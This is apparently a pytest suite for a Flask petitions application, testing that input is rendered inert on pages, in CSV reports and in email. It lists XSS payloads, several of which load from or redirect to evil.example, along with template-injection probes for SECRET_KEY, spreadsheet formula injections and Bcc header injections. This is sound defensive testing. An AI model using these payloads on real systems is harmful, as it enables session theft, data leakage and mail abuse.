"""What is written into a field is shown as it was written, and does nothing: on pages, in files, in mail.

Every page that the client opens is also checked by itself: nothing inline, every tag closed.
"""

import email
import email.policy
import io
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import insert, select

from petitions.cli.work import send_waiting
from petitions.extensions import db
from petitions.models import Case, Matter, OutboxMessage, UserRole
from petitions.rules.terms import EventKind, Role
from tests.blueprints.test_intake import A_DISPUTE, A_PETITION
from tests.support.client import PageClient
from tests.support.desk import SENT
from tests.support.markup import Page
from tests.support.routes import routes_of

VECTORS = (
    "<script>window.pwned=1</script>",
    "</title></textarea></script><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)//",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}{{config.SECRET_KEY}}{%print(1)%}",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>",
)
EVERYWHERE = (VECTORS[1], VECTORS[2], VECTORS[3], VECTORS[10])
"""Those that leave a tag, an attribute in either quotes, or a template: they are looked for on every page."""

OURS = re.compile(r"(/(?!/)|#|tel:|mailto:|https://(?!evil))")
NEVER_OURS = {"iframe", "base", "style", "object", "embed", "x:script", "srcdoc", "http-equiv"}
FORMULAS = ('=HYPERLINK("http://evil.example")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1", "＋1", "＠x")


@pytest.fixture
def visitor(a_user: Any, client_of: Any) -> PageClient:
    """Someone of the staff who is shown everything there is of a case of the service centre."""
    user = a_user(Role.CLK)
    held = db.session.query(UserRole).filter_by(user_id=user.id).one()
    roles = [Role.SUP, Role.OFF, Role.CPO, Role.SEC]
    values = {"user_id": user.id, "unit_id": held.unit_id, "valid_from": date(2011, 1, 1)}
    db.session.execute(insert(UserRole), [{**values, "role": role.value} for role in roles])
    db.session.commit()
    found: PageClient = client_of(user)
    return found


def foreign(page: Page) -> Iterator[str]:
    """Yield what stands on a page as markup and can only have come out of a field."""
    for element in page.root.inside:
        leads = [element[name] for name in ("href", "src", "action", "formaction") if element[name]]
        comes_in = any(name.startswith("on") or name in NEVER_OURS for name in element.attrs)
        if comes_in or element.tag in NEVER_OURS or not all(map(OURS.match, leads)):
            yield f"<{element.tag} {element.attrs}>"


def shown_on(page: Page) -> str:
    typed = (element["value"] for element in page.all("input", "option"))
    return " ".join((page.root.text, *typed))


@pytest.mark.parametrize("vector", VECTORS)
def test_what_citizens_write_is_shown_as_they_wrote_it(
    app: Flask, client: PageClient, visitor: PageClient, vector: str
) -> None:
    for path, filing in (("/file/dispute", A_DISPUTE), ("/file/petition", A_PETITION)):
        texts = dict.fromkeys(("narrative", "demand", "business_name", "subject", "name", "address"), vector)
        known = {name: text for name, text in texts.items() if name in filing}
        known |= {name: vector[:most] for name, most in (("name", 60), ("subject", 40)) if name in filing}
        answer = client.submit(client.get(path), **(filing | known))
        assert answer.status_code == 303
        assert list(foreign(Page(client.get(answer.location).text))) == []
    assert " ".join(looked_at(app, visitor, vector)).count(" ".join(vector.split())) > 7


def looked_at(app: Flask, visitor: PageClient, vector: str) -> Iterator[str]:
    """Yield what pages about every case show, after looking at their markup: every page for a few vectors."""
    for number in db.session.scalars(select(Case.number)):
        paths = [route.path for route in routes_of(app, "GET", number=number) if "/static/" not in route.path]
        if vector not in EVERYWHERE:
            paths = [f"/cases/{number}", f"/cases/{number}/text", f"/cases/{number}/brief"]
        for path in (*paths, "/work?closed=1"):
            answer = visitor.get(path)
            if answer.mimetype == "text/html" and answer.status_code == 200:
                page = Page(answer.text)
                assert list(foreign(page)) == [], path
                yield shown_on(page)
    for path in ("/search", "/work"):
        page = Page(visitor.get(path, query_string={"q": vector, "text": vector, "category": vector}).text)
        assert list(foreign(page)) == [], path
        yield shown_on(page)


@pytest.mark.parametrize("vector", VECTORS)
def test_what_staff_write_is_shown_as_they_wrote_it(visitor: PageClient, a_case: Any, vector: str) -> None:
    case = a_case(unit="csc", phone="0900-000-678", business_name="海風健身")
    wrote = {
        f"/cases/{case.number}/notes": {"body": vector, "submission_key": "n" * 32, **SENT},
        f"/cases/{case.number}/acts/{EventKind.ACCEPTED.value}": {
            "reason": vector,
            "version": str(case.version),
            "happened_on": "106/3/2",
            "jurisdiction": "contract",
            "submission_key": "a" * 32,
            **SENT,
        },
        "/consultations": {"question": vector, "persons": "1", "contacted_on": "106/3/2", **SENT},
        "/activities": {
            "title": vector,
            "place": vector,
            "kind": "inspection",
            "started_on": "106/3/2",
            **SENT,
        },
    }
    for path, typed in wrote.items():
        defaults = {"channel": "phone_1950", "progress": "done", "submission_key": path[-1] * 32}
        answer = visitor.post(path, data=defaults | typed)
        assert answer.status_code == 303, path
    texts = ""
    for path in (f"/cases/{case.number}", "/consultations", "/activities?year=106"):
        page = Page(visitor.get(path).text)
        assert list(foreign(page)) == [], path
        texts += shown_on(page)
    assert texts.count(" ".join(vector.split())) >= 3


def test_an_address_cannot_put_words_into_a_page(app: Flask, visitor: PageClient) -> None:
    for vector in VECTORS:
        for path in ("/nothing/", "/cases/", "/reports/106/"):
            answer = visitor.get(path + vector.replace("/", "%2F") + "/cases", follow_redirects=True)
            page = Page(answer.text)
            assert list(foreign(page)) == []
            assert "evil.example" not in page.root.text


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_table_for_a_spreadsheet_holds_no_formula(visitor: PageClient, a_case: Any, formula: str) -> None:
    a_case(EventKind.ACCEPTED, category=formula, district=formula, unit="csc")
    assert db.session.scalars(select(Matter.category)).all() == [formula]
    for path in ("/reports/106.csv", "/reports/106/3.csv"):
        lines = visitor.get(path).get_data(as_text=True).lstrip("\ufeff").splitlines()
        cells = [cell.strip('"') for line in lines for cell in line.split(",")]
        assert formula.strip().replace('"', '""') in "\n".join(lines)
        assert [cell for cell in cells if cell[:1] in "=+@\t＝＋＠－" and cell] == []
        assert [cell for cell in cells if cell.startswith("-") and not cell[1:].isdigit()] == []


@pytest.mark.parametrize(
    "words",
    [
        "主旨\r\nBcc: victim@example.com",
        "=?utf-8?q?x=0D=0ABcc:_victim@example.com?=",
        "x\u2028Bcc: victim@example.com",
        "%0d%0aBcc: victim@example.com",
    ],
)
def test_a_mail_has_the_headers_that_we_wrote_and_no_other(
    app: Flask, client: PageClient, tmp_path: Path, words: str
) -> None:
    app.config.update(SMTP_HOST="", INSTANCE=str(tmp_path))
    fields = dict.fromkeys(("narrative", "name", "address"), words) | {"subject": words[:40]}
    answer = client.submit(
        client.get("/file/petition"), **(A_PETITION | fields | {"email": "ming@example.com"})
    )
    assert answer.status_code == 303, answer.text
    assert db.session.scalars(select(OutboxMessage.recipient_masked)).all() == ["m***@example.com"]
    assert send_waiting() == 1
    (kept,) = (tmp_path / "mail").iterdir()
    mail = email.message_from_binary_file(io.BytesIO(kept.read_bytes()), policy=email.policy.default)
    assert set(mail.keys()) == {
        *("From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted"),
        *("MIME-Version", "Content-Type", "Content-Transfer-Encoding"),
    }
    assert (mail["To"], mail.is_multipart()) == ("ming@example.com", False)
    assert "victim" not in kept.read_text("utf-8") + mail.get_content() + str(mail["Subject"])
